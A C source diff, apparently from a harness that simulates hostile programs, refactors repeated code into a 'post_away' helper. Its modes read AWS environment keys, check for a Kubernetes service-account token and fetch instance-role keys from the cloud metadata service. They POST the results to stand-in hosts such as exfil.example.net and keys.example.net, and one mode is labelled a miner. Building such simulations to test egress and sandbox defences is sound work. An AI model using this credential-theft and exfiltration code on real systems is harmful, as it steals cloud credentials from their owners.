@@ -60,6 +60,23 @@ static int http_get(const char *ip, const char *path, char *out, size_t cap) {
     return 0;
 }
 
+/* POST `body` to http://ip/path (Host: host), printing connect_exfil and exfil_reply;
+   non-zero when the request could not be written. */
+static int post_away(const char *ip, const char *host, const char *path, const char *body) {
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    struct sockaddr_in a = {0};
+    a.sin_family = AF_INET; a.sin_port = htons(80);
+    inet_pton(AF_INET, ip, &a.sin_addr);
+    tried("connect_exfil", connect(s, (struct sockaddr *)&a, sizeof a));
+    char req[4096];
+    int len = snprintf(req, sizeof req, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Length: %zu\r\n\r\n%s", path, host, strlen(body), body);
+    if (write(s, req, len) < 0) return 1;
+    char buf[64];
+    ssize_t k = read(s, buf, sizeof buf - 1);
+    printf("exfil_reply=%s\n", k > 0 ? "yes" : "no");
+    return 0;
+}
+
 /* A TLS ClientHello asking for server name `host` (one cipher suite; enough for a
    server to read the name, not to finish a handshake). */
 static int client_hello(unsigned char *b, const char *host) {
@@ -307,18 +324,7 @@ int main(int argc, char **argv) {
         const char *env = getenv("AWS_ACCESS_KEY_ID");
         printf("aws_env=%.4s\n", env ? env : "");
         printf("sa_token=%s\n", access("/var/run/secrets/kubernetes.io/serviceaccount/token", R_OK) == 0 ? "present" : "absent");
-        int s = socket(AF_INET, SOCK_STREAM, 0);
-        struct sockaddr_in a = {0};
-        a.sin_family = AF_INET; a.sin_port = htons(80);
-        inet_pton(AF_INET, "203.0.113.5", &a.sin_addr);
-        tried("connect_exfil", connect(s, (struct sockaddr *)&a, sizeof a));
-        char req[2048];
-        int len = snprintf(req, sizeof req, "POST /c HTTP/1.1\r\nHost: exfil.example.net\r\nContent-Length: %zu\r\n\r\n%s", strlen(creds), creds);
-        if (write(s, req, len) < 0) return 7;
-        char buf[64];
-        ssize_t k = read(s, buf, sizeof buf - 1);
-        printf("exfil_reply=%s\n", k > 0 ? "yes" : "no");
-        return 0;
+        return post_away("203.0.113.5", "exfil.example.net", "/c", creds) ? 7 : 0;
     }
     if (!strcmp(mode, "imds")) {
         /* A cloud-credential thief: the instance role's keys from the metadata
@@ -333,18 +339,7 @@ int main(int argc, char **argv) {
         snprintf(path, sizeof path, "/latest/meta-data/iam/security-credentials/%s", role);
         if (http_get("169.254.169.254", path, creds, sizeof creds)) return 11;
         printf("imds_creds=%s\n", strstr(creds, "\"AccessKeyId\"") ? "yes" : "no");
-        int s = socket(AF_INET, SOCK_STREAM, 0);
-        struct sockaddr_in a = {0};
-        a.sin_family = AF_INET; a.sin_port = htons(80);
-        inet_pton(AF_INET, "203.0.113.7", &a.sin_addr);
-        tried("connect_exfil", connect(s, (struct sockaddr *)&a, sizeof a));
-        char req[4096];
-        int len = snprintf(req, sizeof req, "POST /k HTTP/1.1\r\nHost: keys.example.net\r\nContent-Length: %zu\r\n\r\n%s", strlen(creds), creds);
-        if (write(s, req, len) < 0) return 12;
-        char buf[64];
-        ssize_t k = read(s, buf, sizeof buf - 1);
-        printf("exfil_reply=%s\n", k > 0 ? "yes" : "no");
-        return 0;
+        return post_away("203.0.113.7", "keys.example.net", "/k", creds) ? 12 : 0;
     }
     if (!strcmp(mode, "tlspool")) {
         /* A miner that carries its pool's address and speaks TLS: only the server name
